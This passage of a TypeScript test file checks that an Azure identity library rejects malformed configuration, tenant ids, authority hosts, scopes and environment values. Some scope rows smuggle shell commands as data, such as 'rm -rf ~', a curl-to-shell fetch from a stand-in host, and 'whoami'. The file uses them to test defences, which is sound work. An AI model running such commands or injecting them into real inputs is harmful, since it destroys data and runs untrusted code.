  config("Key Vault URI that is just the vault name", withCertificate({ clientCertificateKeyVault: { vaultUri: "myvault", name: "app" } }), "ERR_CONFIG_INVALID_VALUE", "Azure:clientCertificateKeyVault:vaultUri"),
  config("Key Vault certificate name with a slash and a blank", withCertificate({ clientCertificateKeyVault: { vaultUri: "https://v.vault.azure.net", name: "app cert/v2" } }), "ERR_CONFIG_INVALID_VALUE", "Azure:clientCertificateKeyVault:name"),
  config("Key Vault credential of an unknown kind", withCertificate({ clientCertificateKeyVault: { vaultUri: "https://v.vault.azure.net", name: "app", credential: { credential: "vaultidentity" } } }), "ERR_CONFIG_UNKNOWN_CREDENTIAL", "Azure:clientCertificateKeyVault:credential:credential"),
  config("Key Vault credential naming an unknown credential", withCertificate({ clientCertificateKeyVault: { vaultUri: "https://v.vault.azure.net", name: "app", credential: { credentialName: "vault-reader" } } }), "ERR_CONFIG_UNKNOWN_NAME", "Azure:clientCertificateKeyVault:credential:credentialName", { namedCredentials: {} }),
  config("Key Vault credential given as a kind string", withCertificate({ clientCertificateKeyVault: { vaultUri: "https://v.vault.azure.net", name: "app", credential: "managedidentity" } }), "ERR_CONFIG_INVALID_VALUE", "Azure:clientCertificateKeyVault:credential"),

  // azureCloud, additionallyAllowedTenants, files
  config("azureCloud 'AzurePublicCloud' (the .NET enum name)", { credential: "managedidentityasfederatedidentity", tenantId: T, clientId: C, azureCloud: "AzurePublicCloud" }, "ERR_CONFIG_INVALID_VALUE", "Azure:azureCloud"),
  config("azureCloud 'AzureUSGovernment'", sp({ azureCloud: "AzureUSGovernment" }), "ERR_CONFIG_INVALID_VALUE", "Azure:azureCloud"),
  config("additionallyAllowedTenants separated by commas", sp({ additionallyAllowedTenants: `${T2}, ${T}` }), "ERR_CONFIG_TENANT_ID", "Azure:additionallyAllowedTenants"),
  config("additionallyAllowedTenants with a wildcard domain", sp({ additionallyAllowedTenants: ["*.contoso.com"] }), "ERR_CONFIG_TENANT_ID", "Azure:additionallyAllowedTenants"),
  config("additionallyAllowedTenants holding an authority URL", sp({ additionallyAllowedTenants: [`https://login.microsoftonline.com/${T2}`] }), "ERR_CONFIG_TENANT_ID", "Azure:additionallyAllowedTenants"),
  config("caCertificatesPath is a directory", () => ({ credential: "azurecli", caCertificatesPath: fx.file.subdir }), "ERR_CONFIG_FILE", "Azure:caCertificatesPath"),

  // constructor options: retries, time limits, cache names (checked when constructed, not at the first request)
  constructorRow("retryOptions.maxRetries: -1", () => new ClientSecretCredential(T, C, SECRET, { retryOptions: { maxRetries: -1 } }), "ERR_CONFIG_INVALID_VALUE", "retryOptions:maxRetries"),
  constructorRow("retryOptions.maxRetries: 2.5", () => new WorkloadIdentityCredential({ tenantId: T, clientId: C, tokenFilePath: "/var/run/secrets/token", retryOptions: { maxRetries: 2.5 } }), "ERR_CONFIG_INVALID_VALUE", "retryOptions:maxRetries"),
  constructorRow("retryOptions.maxTotalMs: NaN", () => new ClientSecretCredential(T, C, SECRET, { retryOptions: { maxTotalMs: Number.NaN } }), "ERR_CONFIG_INVALID_VALUE", "retryOptions:maxTotalMs"),
  constructorRow("retryOptions.initialDelayMs: Infinity", () => new DeviceCodeCredential({ retryOptions: { initialDelayMs: Number.POSITIVE_INFINITY } }), "ERR_CONFIG_INVALID_VALUE", "retryOptions:initialDelayMs"),
  constructorRow("retryOptions.maxDelayMs beyond what a timer holds", () => new ClientCertificateCredential(T, C, { certificate: fx.cert.keyPem + fx.cert.certPem }, { retryOptions: { maxDelayMs: 2 ** 31 } }), "ERR_CONFIG_INVALID_VALUE", "retryOptions:maxDelayMs"),
  constructorRow("retryOptions given as a number", () => new ClientSecretCredential(T, C, SECRET, { retryOptions: 3 as never }), "ERR_CONFIG_INVALID_VALUE", "retryOptions"),
  constructorRow("retryOptions.retryStatuses given as a list", () => new ClientSecretCredential(T, C, SECRET, { retryOptions: { retryStatuses: [429, 503] as never } }), "ERR_CONFIG_INVALID_VALUE", "retryOptions:retryStatuses"),
  constructorRow("requestTimeoutMs option beyond what a timer holds (3e9 ms fires at once)", () => new ClientSecretCredential(T, C, SECRET, { requestTimeoutMs: 3_000_000_000 }), "ERR_CONFIG_INVALID_VALUE", "requestTimeoutMs"),
  constructorRow("requestTimeoutMs option of 0", () => new DefaultAzureCredential({ env: {}, requestTimeoutMs: 0 }), "ERR_CONFIG_INVALID_VALUE", "requestTimeoutMs"),
  constructorRow("requestTimeoutMs option '30000' (a string)", () => new AzurePipelinesCredential(T, C, "sc", SYSTEM_TOKEN, { requestTimeoutMs: "30000" as never }), "ERR_CONFIG_INVALID_VALUE", "requestTimeoutMs"),
  constructorRow("managedIdentityRetryOptions.maxDelayMs: -5", () => new DefaultAzureCredential({ env: {}, managedIdentityRetryOptions: { maxDelayMs: -5 } }), "ERR_CONFIG_INVALID_VALUE", "managedIdentityRetryOptions:maxDelayMs"),
  config("requestTimeoutMs of 0 in a section (every request would time out)", sp({ requestTimeoutMs: 0 }), "ERR_CONFIG_INVALID_VALUE", "Azure:requestTimeoutMs"),
  config("processTimeoutInMs '0' from a variable-style string", { credential: "azurecli", processTimeoutInMs: "0" }, "ERR_CONFIG_INVALID_VALUE", "Azure:processTimeoutInMs"),
  constructorRow("managed identity retryOptions.maxRetries: -1", () => new ManagedIdentityCredential({ retryOptions: { maxRetries: -1 } }), "ERR_CONFIG_INVALID_VALUE", "retryOptions:maxRetries"),
  constructorRow("managed identity requestTimeoutMs of 0", () => new ManagedIdentityCredential({ requestTimeoutMs: 0 }), "ERR_CONFIG_INVALID_VALUE", "requestTimeoutMs"),
  constructorRow("managed identity probeImds timeout of 0", () => new ManagedIdentityCredential({ probeImds: { timeoutMs: 0 } }), "ERR_CONFIG_INVALID_VALUE", "probeImds:timeoutMs"),
  constructorRow("managed identity with a client id and an object id", () => new ManagedIdentityCredential({ clientId: C, objectId: T2 }), "ERR_CONFIG_CONFLICT", "objectId"),
  constructorRow("processTimeoutInMs option beyond what a timer holds", () => new AzureCliCredential({ processTimeoutInMs: 99_999_999_999 }), "ERR_CONFIG_INVALID_VALUE", "processTimeoutInMs"),
  constructorRow("processTimeoutInMs option NaN", () => new AzureDeveloperCliCredential({ processTimeoutInMs: Number.NaN }), "ERR_CONFIG_INVALID_VALUE", "processTimeoutInMs"),
  constructorRow("persistent cache name '..' as a constructor option", () => new ClientSecretCredential(T, C, SECRET, { tokenCachePersistenceOptions: { enabled: true, name: "..", unsafeAllowUnencryptedStorage: true } }), "ERR_CONFIG_INVALID_VALUE", "tokenCachePersistenceOptions:name"),
  constructorRow("persistent cache name with a slash, for a device code sign-in", () => new DeviceCodeCredential({ tokenCachePersistenceOptions: { enabled: true, name: "team/app", unsafeAllowUnencryptedStorage: true } }), "ERR_CONFIG_INVALID_VALUE", "tokenCachePersistenceOptions:name"),
  constructorRow("an empty persistent cache name", () => new ClientSecretCredential(T, C, SECRET, { tokenCachePersistenceOptions: { enabled: true, name: "", unsafeAllowUnencryptedStorage: true } }), "ERR_CONFIG_INVALID_VALUE", "tokenCachePersistenceOptions:name"),
  constructorRow("tokenCache persistent named with an absolute path", () => new ClientSecretCredential(T, C, SECRET, { tokenCache: { type: "persistent", name: "/etc/cron.d/job", unsafeAllowUnencryptedStorage: true } }), "ERR_CONFIG_INVALID_VALUE", "tokenCache:name"),
  {
    name: "a client assertion callback that throws",
    run: () => new ClientAssertionCredential(emu.tenantId, C, () => Promise.reject(new Error("the signing service is down")), atEmulator()).getToken(scope),
    error: CredentialUnavailableError,
    code: "ERR_CREDENTIAL_UNAVAILABLE",
    mentions: ["ClientAssertionCredential", "the signing service is down"],
    async: true,
  },
];

// ----- authority hosts -----

const authorityRows: Row[] = [
  config("http authority host of a sovereign cloud", sp({ authorityHost: "http://login.microsoftonline.us" }), "ERR_CONFIG_AUTHORITY_HOST", "Azure:authorityHost"),
  config("http on localhost (no opt-in exists)", sp({ authorityHost: "http://localhost:8443" }), "ERR_CONFIG_AUTHORITY_HOST", "Azure:authorityHost"),
  config("http on 127.0.0.1", sp({ authorityHost: "http://127.0.0.1:5000", disableInstanceDiscovery: true }), "ERR_CONFIG_AUTHORITY_HOST", "Azure:authorityHost"),
  config("http on [::1]", sp({ authorityHost: "http://[::1]:5000" }), "ERR_CONFIG_AUTHORITY_HOST", "Azure:authorityHost"),
  config("a query string (slice=testslice)", sp({ authorityHost: "https://login.microsoftonline.com/?slice=testslice" }), "ERR_CONFIG_AUTHORITY_HOST", "Azure:authorityHost"),
  config("a fragment", sp({ authorityHost: "https://login.microsoftonline.com/#tenant" }), "ERR_CONFIG_AUTHORITY_HOST", "Azure:authorityHost"),
  config("user and password in the URL", sp({ authorityHost: `https://svc:${AUTHORITY_PASSWORD}@login.contoso.com` }), "ERR_CONFIG_AUTHORITY_HOST", "Azure:authorityHost"),
  config("a user name in the URL", sp({ authorityHost: "https://admin@login.microsoftonline.com" }), "ERR_CONFIG_AUTHORITY_HOST", "Azure:authorityHost"),
  config("the host without a scheme", sp({ authorityHost: "login.microsoftonline.com" }), "ERR_CONFIG_AUTHORITY_HOST", "Azure:authorityHost"),
  config("ftp:", sp({ authorityHost: "ftp://login.microsoftonline.com" }), "ERR_CONFIG_AUTHORITY_HOST", "Azure:authorityHost"),
  config("wss:", sp({ authorityHost: "wss://login.microsoftonline.com" }), "ERR_CONFIG_AUTHORITY_HOST", "Azure:authorityHost"),
  config("'https://' and nothing else", sp({ authorityHost: "https://" }), "ERR_CONFIG_AUTHORITY_HOST", "Azure:authorityHost"),
  config("blanks", sp({ authorityHost: "   " }), "ERR_CONFIG_AUTHORITY_HOST", "Azure:authorityHost"),
  config("a port out of range", sp({ authorityHost: "https://login.microsoftonline.com:99999" }), "ERR_CONFIG_AUTHORITY_HOST", "Azure:authorityHost"),
  { name: "an empty authorityHost option", run: () => new ClientSecretCredential(T, C, SECRET, { authorityHost: "" }), error: ConfigurationError, code: "ERR_CONFIG_AUTHORITY_HOST", path: "authorityHost" },
  { name: "DeviceCodeCredential with an http emulator", run: () => new DeviceCodeCredential({ authorityHost: "http://localhost:8080" }), error: ConfigurationError, code: "ERR_CONFIG_AUTHORITY_HOST", path: "authorityHost" },
  { name: "WorkloadIdentityCredential with an ftp authority", run: () => new WorkloadIdentityCredential({ tenantId: T, clientId: C, tokenFilePath: "/var/run/secrets/token", authorityHost: "ftp://login.microsoftonline.com" }), error: ConfigurationError, code: "ERR_CONFIG_AUTHORITY_HOST", path: "authorityHost" },
  config("not a URL, with a password before the '@'", sp({ authorityHost: `https://admin:${AUTHORITY_PASSWORD}@login contoso.com` }), "ERR_CONFIG_AUTHORITY_HOST", "Azure:authorityHost"),
  { name: "a password holding '/' (the URL breaks at it) in the authorityHost option", run: () => new ClientSecretCredential(T, C, SECRET, { authorityHost: `https://svc:${AUTHORITY_PASSWORD}/x@login.contoso.com` }), error: ConfigurationError, code: "ERR_CONFIG_AUTHORITY_HOST", path: "authorityHost" },
  { name: "DeviceCodeCredential with a password in an authority whose port is out of range", run: () => new DeviceCodeCredential({ authorityHost: `https://svc:${AUTHORITY_PASSWORD}@login.contoso.com:99999` }), error: ConfigurationError, code: "ERR_CONFIG_AUTHORITY_HOST", path: "authorityHost" },
  { name: "DefaultAzureCredential with an http authorityHost option", run: () => new DefaultAzureCredential({ env: { AZURE_TENANT_ID: T, AZURE_CLIENT_ID: C, AZURE_CLIENT_SECRET: SECRET }, authorityHost: "http://login.microsoftonline.com" }), error: ConfigurationError, code: "ERR_CONFIG_AUTHORITY_HOST", path: "authorityHost" },
];

// ----- tenant ids -----

const tenantRows: Row[] = [
  { name: "empty tenant id argument", run: () => new ClientSecretCredential("", C, SECRET), error: ConfigurationError, code: "ERR_CONFIG_TENANT_ID", path: "tenantId" },
  { name: "a blank tenant id argument", run: () => new ClientSecretCredential(" ", C, SECRET), error: ConfigurationError, code: "ERR_CONFIG_TENANT_ID", path: "tenantId" },
  { name: "tenant id '../'", run: () => new ClientSecretCredential("../", C, SECRET), error: ConfigurationError, code: "ERR_CONFIG_TENANT_ID", path: "tenantId" },
  { name: "tenant id 'a/b'", run: () => new ClientSecretCredential("contoso/b2c", C, SECRET), error: ConfigurationError, code: "ERR_CONFIG_TENANT_ID", path: "tenantId" },
  config("a trailing blank after the GUID", sp({ tenantId: `${T} ` }), "ERR_CONFIG_TENANT_ID", "Azure:tenantId"),
  config("a trailing newline (read from a file)", sp({ tenantId: `${T}\n` }), "ERR_CONFIG_TENANT_ID", "Azure:tenantId"),
  config("the GUID in braces, as .NET prints it", sp({ tenantId: `{${T}}` }), "ERR_CONFIG_TENANT_ID", "Azure:tenantId"),
  config("a domain with a Cyrillic 'о'", sp({ tenantId: "cоntoso.onmicrosoft.com" }), "ERR_CONFIG_TENANT_ID", "Azure:tenantId"),
  config("a tenant with a query string", sp({ tenantId: `${T}?dc=ESTS-PUB-WUS2` }), "ERR_CONFIG_TENANT_ID", "Azure:tenantId"),
  config("a percent-encoded '..'", sp({ tenantId: "%2e%2e" }), "ERR_CONFIG_TENANT_ID", "Azure:tenantId"),
  config("'organizations' for a client secret", sp({ tenantId: "organizations" }), "ERR_CONFIG_TENANT_ID", "Azure:tenantId"),
  config("'common' for a client certificate", withCertificate({ tenantId: "common", clientCertificatePath: "/secrets/app.pfx" }), "ERR_CONFIG_TENANT_ID", "Azure:tenantId"),
  config("'consumers' for workload identity", { credential: "workloadidentity", tenantId: "consumers", clientId: C, tokenFilePath: "/var/run/secrets/token" }, "ERR_CONFIG_TENANT_ID", "Azure:tenantId"),
  config("'Organizations' for Azure Pipelines", { credential: "azurepipelines", tenantId: "Organizations", clientId: C, serviceConnectionId: "sc", systemAccessToken: SYSTEM_TOKEN }, "ERR_CONFIG_TENANT_ID", "Azure:tenantId"),
  config("a 300-character value pasted as the tenant", sp({ tenantId: `${"contoso".repeat(42)}.com` }), "ERR_CONFIG_TENANT_ID", "Azure:tenantId"),
  config("azurecli with 'tenant-a;tenant-b'", { credential: "azurecli", tenantId: "tenant-a;tenant-b" }, "ERR_CONFIG_TENANT_ID", "Azure:tenantId"),
  config("devicecode with a tenant name", { credential: "devicecode", tenantId: "Contoso Corp" }, "ERR_CONFIG_TENANT_ID", "Azure:tenantId"),
  { name: "AzureDeveloperCliCredential with a tenant holding a blank", run: () => new AzureDeveloperCliCredential({ tenantId: "contoso tenant" }), error: ConfigurationError, code: "ERR_CONFIG_TENANT_ID", path: "tenantId" },
  { name: "getToken for tenant '../common'", run: () => secretCredential().getToken(scope, { tenantId: "../common" }), error: ConfigurationError, code: "ERR_CONFIG_TENANT_ID", path: "getTokenOptions.tenantId", async: true },
  { name: "ClientSecretCredential for tenant 'common'", run: () => new ClientSecretCredential("common", C, SECRET), error: ConfigurationError, code: "ERR_CONFIG_TENANT_ID", path: "tenantId" },
  { name: "ClientCertificateCredential for tenant 'Organizations'", run: () => new ClientCertificateCredential("Organizations", C, { certificate: fx.cert.keyPem + fx.cert.certPem }), error: ConfigurationError, code: "ERR_CONFIG_TENANT_ID", path: "tenantId" },
  { name: "ClientAssertionCredential for tenant 'consumers'", run: () => new ClientAssertionCredential("consumers", C, async () => "assertion"), error: ConfigurationError, code: "ERR_CONFIG_TENANT_ID", path: "tenantId" },
  { name: "WorkloadIdentityCredential for tenant 'common'", run: () => new WorkloadIdentityCredential({ tenantId: "common", clientId: C, tokenFilePath: "/var/run/secrets/token" }), error: ConfigurationError, code: "ERR_CONFIG_TENANT_ID", path: "tenantId" },
  { name: "a 254-character tenant id argument", run: () => new ClientSecretCredential(`${"a".repeat(242)}.contoso.com`, C, SECRET), error: ConfigurationError, code: "ERR_CONFIG_TENANT_ID", path: "tenantId" },
  { name: "AzureCliCredential with a tenant that is a flag ('--subscription')", run: () => new AzureCliCredential({ tenantId: "--subscription" }), error: ConfigurationError, code: "ERR_CONFIG_TENANT_ID", path: "tenantId" },
  { name: "getToken for tenant '--debug' from az with no tenant configured", run: () => cli().getToken(scope, { tenantId: "--debug" }), error: ConfigurationError, code: "ERR_CONFIG_TENANT_ID", path: "getTokenOptions.tenantId", async: true },
  { name: "getToken for tenant 'contoso tenant' from azd with no tenant configured", run: () => azd().getToken(scope, { tenantId: "contoso tenant" }), error: ConfigurationError, code: "ERR_CONFIG_TENANT_ID", path: "getTokenOptions.tenantId", async: true },
  { name: "getToken for a 300-character tenant", run: () => secretCredential().getToken(scope, { tenantId: `${"contoso".repeat(42)}.com` }), error: ConfigurationError, code: "ERR_CONFIG_TENANT_ID", path: "getTokenOptions.tenantId", async: true },
  { name: "getToken for tenant 'common' with additionallyAllowedTenants ['*']", run: () => new ClientSecretCredential(T, C, SECRET, { ...loopback(), additionallyAllowedTenants: ["*"] }).getToken(scope, { tenantId: "common" }), error: ConfigurationError, code: "ERR_CONFIG_TENANT_ID", path: "getTokenOptions.tenantId", async: true },
  { name: "getToken for a tenant not in additionallyAllowedTenants", run: () => secretCredential().getToken(scope, { tenantId: T2 }), error: CredentialUnavailableError, code: "ERR_CREDENTIAL_UNAVAILABLE", mentions: [T2, "additionallyAllowedTenants"], async: true },
];

// ----- scopes -----

const cli = () => new AzureCliCredential({ processTimeoutInMs: 2000 });
const azd = () => new AzureDeveloperCliCredential({ processTimeoutInMs: 2000 });
const scopeRows: Row[] = [
  scopeRow("no scope at all", secretCredential, []),
  scopeRow("an empty scope string", secretCredential, ""),
  scopeRow("a list holding an empty scope", secretCredential, [""]),
  scopeRow("a number among the scopes", secretCredential, [scope, 42]),
  scopeRow("undefined among the scopes", secretCredential, [undefined]),
  scopeRow("two scopes for the Azure CLI", cli, [scope, "https://vault.azure.net/.default"]),
  scopeRow("an empty scope for the Azure CLI", cli, ""),
  scopeRow("a scope with '; rm -rf ~' for az", cli, `${scope}; rm -rf ~`),
  scopeRow("a scope with $(…) for az", cli, "$(curl -s https://evil.example/x | sh)"),
  scopeRow("a scope with backticks for az", cli, "`id`"),
  scopeRow("a scope closing a quote for az", cli, `${scope}" --query "accessToken`),
  scopeRow("a scope with a newline and a flag for az", cli, `${scope}\n--tenant ${T2}`),
  scopeRow("a scope piped to tee for az", cli, `${scope} | tee /tmp/token`),
  scopeRow("a scope with a Cyrillic 'о' for az", cli, "https://stоrage.azure.com/.default"),
  scopeRow("a non-string scope for az", cli, [42]),
  scopeRow("a scope with '&& whoami' for azd", azd, `${scope} && whoami`),
  scopeRow("a single-quoted scope for azd", azd, `'${scope}'`),
  scopeRow("two scopes for a managed identity", () => new ManagedIdentityCredential(), [scope, "https://vault.azure.net/.default"]),
  scopeRow("no scope for a managed identity", () => new ManagedIdentityCredential(), []),
  scopeRow("a scope with a blank, through a chain (a bad scope stops the chain)", () => new ChainedTokenCredential(cli(), new ManagedIdentityCredential()), "https://storage.azure.com/ .default"),
  scopeRow("no scope through EnvironmentCredential", () => new EnvironmentCredential({ ...loopback(), env: { AZURE_TENANT_ID: T, AZURE_CLIENT_ID: C, AZURE_CLIENT_SECRET: SECRET } }), []),
  scopeRow("getToken(null) for a client secret", secretCredential, null),
  scopeRow("getToken() with no scopes for a client certificate", () => new ClientCertificateCredential(T, C, { certificate: fx.cert.keyPem + fx.cert.certPem }, loopback()), undefined),
  scopeRow("scopes given as an object { scopes }", secretCredential, { scopes: [scope] }),
  scopeRow("a scope of blanks", secretCredential, "   "),
  scopeRow("a blank scope beside a good one", secretCredential, [scope, " \t"]),
  scopeRow("getToken(null) for the Azure CLI", cli, null),
  scopeRow("getToken(null) for the Azure Developer CLI", azd, null),
  scopeRow("a scope that is a flag ('--debug') for az", cli, "--debug"),
  scopeRow("a scope that is a flag ('-h') for azd", azd, "-h"),
  scopeRow("getToken(null) for a managed identity", () => new ManagedIdentityCredential(), null),
  scopeRow("a blank scope for a managed identity", () => new ManagedIdentityCredential(), "  "),
  scopeRow("getToken(null) for a device code sign-in", () => new DeviceCodeCredential(loopback()), null),
  scopeRow("getToken(null) through EnvironmentCredential", () => new EnvironmentCredential({ ...loopback(), env: { AZURE_TENANT_ID: T, AZURE_CLIENT_ID: C, AZURE_CLIENT_SECRET: SECRET } }), null),
  scopeRow("getToken(null) through a chain (stops the chain)", () => new ChainedTokenCredential(cli(), new ManagedIdentityCredential()), null),
];

// ----- environment values -----

const envSecret = { AZURE_TENANT_ID: T, AZURE_CLIENT_ID: C, AZURE_CLIENT_SECRET: SECRET };
const envCertificate = (path: string, password?: string) => ({ AZURE_TENANT_ID: T, AZURE_CLIENT_ID: C, AZURE_CLIENT_CERTIFICATE_PATH: path, ...(password === undefined ? {} : { AZURE_CLIENT_CERTIFICATE_PASSWORD: password }) });
const unavailable = (name: string, env: Record<string, string>, mentions: string[]): Row => ({
  name,
  run: () => new EnvironmentCredential({ ...loopback(), env }).getToken(scope),
  error: CredentialUnavailableError,
  code: "ERR_CREDENTIAL_UNAVAILABLE",
  mentions,
  async: true,
});
const environmentCredential = (name: string, env: () => Record<string, string>, code: ErrorCode, path: string, maxMs?: number): Row => ({
  name,
  run: () => new EnvironmentCredential({ env: env() }),
  error: classOf(code),
  code,
  path,
  maxMs,
});

const environmentRows: Row[] = [
  unavailable("AZURE_TENANT_ID missing", { AZURE_CLIENT_ID: C, AZURE_CLIENT_SECRET: SECRET }, ["AZURE_TENANT_ID"]),
  unavailable("AZURE_CLIENT_ID missing", { AZURE_TENANT_ID: T, AZURE_CLIENT_SECRET: SECRET }, ["AZURE_CLIENT_ID"]),
  unavailable("AZURE_USERNAME without AZURE_PASSWORD", { AZURE_TENANT_ID: T, AZURE_CLIENT_ID: C, AZURE_USERNAME: "user@contoso.com" }, ["AZURE_USERNAME/AZURE_PASSWORD"]),
  unavailable("AZURE_PASSWORD without AZURE_USERNAME", { AZURE_TENANT_ID: T, AZURE_CLIENT_ID: C, AZURE_PASSWORD: USER_PASSWORD }, ["AZURE_USERNAME/AZURE_PASSWORD"]),
  unavailable("nothing set at all", {}, ["AZURE_TENANT_ID", "AZURE_CLIENT_ID"]),
  unavailable("variables set to empty strings", { AZURE_TENANT_ID: "", AZURE_CLIENT_ID: "", AZURE_CLIENT_SECRET: "" }, ["AZURE_TENANT_ID", "AZURE_CLIENT_ID"]),
  environmentCredential("AZURE_TENANT_ID with a blank", () => ({ ...envSecret, AZURE_TENANT_ID: "contoso tenant" }), "ERR_CONFIG_TENANT_ID", "AZURE_TENANT_ID"),
  environmentCredential("AZURE_TENANT_ID ending in \\r (a Windows .env file)", () => ({ ...envSecret, AZURE_TENANT_ID: `${T}\r` }), "ERR_CONFIG_TENANT_ID", "AZURE_TENANT_ID"),
  environmentCredential("AZURE_CLIENT_CERTIFICATE_PATH to a missing file", () => envCertificate(fx.file.missing, PFX_PASSWORD), "ERR_CERT_NOT_FOUND", "AZURE_CLIENT_CERTIFICATE_PATH"),
  environmentCredential("AZURE_CLIENT_CERTIFICATE_PATH to a directory", () => envCertificate(fx.file.subdir), "ERR_CERT_IS_DIRECTORY", "AZURE_CLIENT_CERTIFICATE_PATH"),
  environmentCredential("AZURE_CLIENT_CERTIFICATE_PATH to random bytes", () => envCertificate(fx.file.random), "ERR_CERT_FORMAT", "AZURE_CLIENT_CERTIFICATE_PATH"),
  environmentCredential("AZURE_CLIENT_CERTIFICATE_PASSWORD wrong", () => envCertificate(fx.file.pfx, WRONG_PASSWORD), "ERR_CERT_PASSWORD", "AZURE_CLIENT_CERTIFICATE_PATH"),
  environmentCredential("AZURE_CLIENT_CERTIFICATE_PASSWORD not set for a protected PFX", () => envCertificate(fx.file.pfx), "ERR_CERT_PASSWORD_REQUIRED", "AZURE_CLIENT_CERTIFICATE_PATH"),
  environmentCredential("AZURE_CLIENT_CERTIFICATE_PATH=/dev/zero", () => envCertificate("/dev/zero"), "ERR_CERT_READ", "AZURE_CLIENT_CERTIFICATE_PATH", 1000),
  {
    name: "WorkloadIdentityCredential without AZURE_FEDERATED_TOKEN_FILE",
    run: () => new WorkloadIdentityCredential({ env: { AZURE_TENANT_ID: T, AZURE_CLIENT_ID: C } }),
    error: ConfigurationError,
    code: "ERR_CONFIG_MISSING_VALUE",
    path: "tokenFilePath",
    mentions: ["AZURE_FEDERATED_TOKEN_FILE"],
  },
  {
    name: "WorkloadIdentityCredential without AZURE_TENANT_ID",
    run: () => new WorkloadIdentityCredential({ env: { AZURE_CLIENT_ID: C, AZURE_FEDERATED_TOKEN_FILE: "/var/run/secrets/token" } }),
    error: ConfigurationError,
    code: "ERR_CONFIG_MISSING_VALUE",
    path: "tenantId",
    mentions: ["AZURE_TENANT_ID"],
  },
  {
    name: "WorkloadIdentityCredential without AZURE_CLIENT_ID",
    run: () => new WorkloadIdentityCredential({ env: { AZURE_TENANT_ID: T, AZURE_FEDERATED_TOKEN_FILE: "/var/run/secrets/token" } }),
    error: ConfigurationError,
    code: "ERR_CONFIG_MISSING_VALUE",
    path: "clientId",
    mentions: ["AZURE_CLIENT_ID"],
  },
  environmentCredential("AZURE_AUTHORITY_HOST=http://… for a client secret", () => ({ ...envSecret, AZURE_AUTHORITY_HOST: "http://login.microsoftonline.com" }), "ERR_CONFIG_AUTHORITY_HOST", "AZURE_AUTHORITY_HOST"),
  environmentCredential("AZURE_AUTHORITY_HOST holding a password, not a URL, for a certificate", () => ({ ...envCertificate(fx.file.pfx, PFX_PASSWORD), AZURE_AUTHORITY_HOST: `https://svc:${AUTHORITY_PASSWORD}@login contoso.com` }), "ERR_CONFIG_AUTHORITY_HOST", "AZURE_AUTHORITY_HOST"),
  environmentCredential("AZURE_AUTHORITY_HOST=ftp://… for AZURE_USERNAME/AZURE_PASSWORD", () => ({ AZURE_TENANT_ID: T, AZURE_CLIENT_ID: C, AZURE_USERNAME: "user@contoso.com", AZURE_PASSWORD: USER_PASSWORD, AZURE_AUTHORITY_HOST: "ftp://login.microsoftonline.com" }), "ERR_CONFIG_AUTHORITY_HOST", "AZURE_AUTHORITY_HOST"),
  config("credential environment with AZURE_AUTHORITY_HOST=http://…", { credential: "environment" }, "ERR_CONFIG_AUTHORITY_HOST", "AZURE_AUTHORITY_HOST", { env: { ...envSecret, AZURE_AUTHORITY_HOST: "http://login.microsoftonline.com" } }),
  environmentCredential("AZURE_TENANT_ID=common for a client secret", () => ({ ...envSecret, AZURE_TENANT_ID: "common" }), "ERR_CONFIG_TENANT_ID", "AZURE_TENANT_ID"),
  constructorRow("WorkloadIdentityCredential with AZURE_TENANT_ID holding a slash", () => new WorkloadIdentityCredential({ env: { AZURE_TENANT_ID: "contoso/b2c", AZURE_CLIENT_ID: C, AZURE_FEDERATED_TOKEN_FILE: "/var/run/secrets/token" } }), "ERR_CONFIG_TENANT_ID", "AZURE_TENANT_ID"),
  constructorRow("WorkloadIdentityCredential with AZURE_TENANT_ID=organizations", () => new WorkloadIdentityCredential({ env: { AZURE_TENANT_ID: "organizations", AZURE_CLIENT_ID: C, AZURE_FEDERATED_TOKEN_FILE: "/var/run/secrets/token" } }), "ERR_CONFIG_TENANT_ID", "AZURE_TENANT_ID"),
  constructorRow("WorkloadIdentityCredential with AZURE_CLIENT_ID of blanks", () => new WorkloadIdentityCredential({ env: { AZURE_TENANT_ID: T, AZURE_CLIENT_ID: "  ", AZURE_FEDERATED_TOKEN_FILE: "/var/run/secrets/token" } }), "ERR_CONFIG_MISSING_VALUE", "AZURE_CLIENT_ID"),
  constructorRow("WorkloadIdentityCredential with AZURE_AUTHORITY_HOST=http://…", () => new WorkloadIdentityCredential({ env: { AZURE_TENANT_ID: T, AZURE_CLIENT_ID: C, AZURE_FEDERATED_TOKEN_FILE: "/var/run/secrets/token", AZURE_AUTHORITY_HOST: "http://login.microsoftonline.com" } }), "ERR_CONFIG_AUTHORITY_HOST", "AZURE_AUTHORITY_HOST"),
  constructorRow("DefaultAzureCredential's workload identity with AZURE_TENANT_ID holding a blank", () => new DefaultAzureCredential({ excludeEnvironmentCredential: true, env: { AZURE_TENANT_ID: "contoso tenant", AZURE_CLIENT_ID: C, AZURE_FEDERATED_TOKEN_FILE: "/var/run/secrets/token" } }), "ERR_CONFIG_TENANT_ID", "AZURE_TENANT_ID"),
  tokenFileRow("AZURE_FEDERATED_TOKEN_FILE is a directory", () => fx.file.subdir, ["not a regular file"]),
  tokenFileRow("AZURE_FEDERATED_TOKEN_FILE=/dev/zero", () => "/dev/zero", ["not a regular file"], 1000),
  tokenFileRow("AZURE_FEDERATED_TOKEN_FILE is a FIFO", () => fx.file.fifo, ["not a regular file"], 1000),
  tokenFileRow("AZURE_FEDERATED_TOKEN_FILE over 64 KiB", () => fx.file.bigToken, ["65536"], 1000),
  {
    name: "SYSTEM_OIDCREQUESTURI that is not a URL",
    run: () => new AzurePipelinesCredential(emu.tenantId, C, "sc", SYSTEM_TOKEN, { ...atEmulator(), env: { SYSTEM_OIDCREQUESTURI: "$(System.OidcRequestUri)" } }).getToken(scope),
    error: CredentialUnavailableError,
    code: "ERR_CREDENTIAL_UNAVAILABLE",
    mentions: ["SYSTEM_OIDCREQUESTURI"],
    async: true,
  },
  { name: "AZURE_TOKEN_CREDENTIALS=InteractiveBrowserCredential", run: () => new DefaultAzureCredential({ env: { AZURE_TOKEN_CREDENTIALS: "InteractiveBrowserCredential" } }), error: ConfigurationError, code: "ERR_CONFIG_INVALID_VALUE", path: "AZURE_TOKEN_CREDENTIALS" },
  { name: "AZURE_TOKEN_CREDENTIALS=dev,prod", run: () => new DefaultAzureCredential({ env: { AZURE_TOKEN_CREDENTIALS: "dev,prod" } }), error: ConfigurationError, code: "ERR_CONFIG_INVALID_VALUE", path: "AZURE_TOKEN_CREDENTIALS" },
  { name: "requiredEnvVars not set", run: () => new DefaultAzureCredential({ env: {}, requiredEnvVars: ["AZURE_CLIENT_ID", "AZURE_TENANT_ID"] }), error: ConfigurationError, code: "ERR_CONFIG_MISSING_VALUE", path: "AZURE_CLIENT_ID, AZURE_TENANT_ID" },
